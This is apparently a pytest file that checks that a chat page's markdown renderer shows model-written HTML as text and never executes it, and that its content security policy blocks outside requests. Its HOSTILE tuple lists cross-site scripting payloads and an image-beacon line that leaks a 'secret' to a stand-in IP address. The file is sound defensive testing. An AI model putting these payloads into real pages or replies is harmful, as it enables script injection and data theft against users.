"""What a model writes never becomes part of the page, nor leads out of it."""

from __future__ import annotations

import random
from typing import TYPE_CHECKING

import pytest

from api.live import live
from fake_engine import FakeEngine
from page.asking import (
    ask,
    reply,
    url,
)

if TYPE_CHECKING:
    from page.chromium import Page


HOSTILE = (
    "<img src=x onerror='window.hit=1'>",
    "<script>window.hit=1</script>",
    "<svg/onload=window.hit=1>",
    "<iframe srcdoc='<script>parent.hit=1</script>'></iframe>",
    "[click](javascript:window.hit=1)",
    "[click](data:text/html,<script>window.hit=1</script>)",
    "![leak](http://203.0.113.7/leak.png?secret)",
    "[![leak](http://203.0.113.7/a.png)](javascript:alert(1))",
    "<a href='javascript:window.hit=1'>go</a>",
    '[quote](http://203.0.113.7/"onmouseover="window.hit=1)',
    "<style>body{display:none}</style>",
    "```html\n</code></pre><script>window.hit=1</script>\n```",
    "| <b onclick=window.hit=1>x</b> | b |\n|---|---|\n| <img src=x onerror=window.hit=1> | c |",
    "&lt;script&gt;window.hit=1&lt;/script&gt; &#60;img src=x&#62;",
    "<http://203.0.113.7/x onclick=window.hit=1>",
    "# <h1 onmouseover=window.hit=1>",
    "- <details ontoggle=window.hit=1 open>\n  > <base href=//203.0.113.7>",
    "**<b**onclick=window.hit=1>**",
)
PLAIN = "P STRONG EM S CODE BR UL BLOCKQUOTE H4 H5 HR TABLE THEAD TBODY TR FIGCAPTION SPAN"
ALLOWED = {
    "DIV": {"class", "tabindex", "role", "aria-label"},
    "A": {"href", "title", "target", "rel"},
    "PRE": {"tabindex"},
    "FIGURE": {"class"},
    "BUTTON": {"type", "class", "aria-label", "title"},
    "svg": {"class", "viewBox", "aria-hidden"},
    "path": {"d"},
    "OL": {"start"},
    "LI": {"class"},
    "INPUT": {"type", "disabled", "aria-label", "checked"},
    "TH": {"scope", "class"},
    "TD": {"class"},
    "H3": {"class"},
    **dict.fromkeys(PLAIN.split(), frozenset()),
}


@pytest.mark.parametrize("seed", range(3))
def test_markup_of_a_reply_is_shown_and_never_runs(tab: Page, seed: int):
    pieces = [*HOSTILE, "Plain *text* with `code`", "1. one\n2. two", "> quoted"]
    random.Random(seed).shuffle(pieces)
    with live(FakeEngine("</think>\n\n" + "\n\n".join(pieces))) as server:
        tab.open(url(server))
        ask(tab, "Attack")
        tab.run("new Promise((resolve) => requestAnimationFrame(() => setTimeout(resolve)))")
        assert tab.run("window.hit ?? null") is None
        found = tab.run(
            """[...document.querySelectorAll(".markdown *")].map((element) =>
                 [element.tagName, element.getAttributeNames()])"""
        )
        for tag, attributes in found:
            assert set(attributes) <= ALLOWED[tag], tag
        hrefs = tab.run("[...document.querySelectorAll('.markdown a')].map((one) => one.href)")
        assert hrefs
        assert all(href.startswith("http://203.0.113.7/") for href in hrefs)
        shown = reply(tab)
        for literal in ("<script>window.hit=1</script>", "onerror='window.hit=1'", "</code></pre>"):
            assert literal in shown
        assert {address.rpartition("/")[0] for _, address in tab.sent} <= {
            url(server).rstrip("/") + path for path in ("", "/page", "/v1", "/v1/chat")
        }


def test_the_browser_refuses_markup_and_places_that_the_policy_forbids(tab: Page):
    with live(FakeEngine()) as server:
        tab.open(url(server))
        assert (
            tab.run(
                "(() => { try { document.body.innerHTML = '<b>x</b>'; return 'taken'; }"
                " catch (error) { return error.name; } })()"
            )
            == "TypeError"
        )
        blocked = tab.run(
            """new Promise((resolve) => {
              addEventListener("securitypolicyviolation", (event) => resolve(event.effectiveDirective));
              fetch("http://203.0.113.7/").catch(() => undefined);
            })"""
        )
        assert blocked == "connect-src"
    tab.problems.clear()
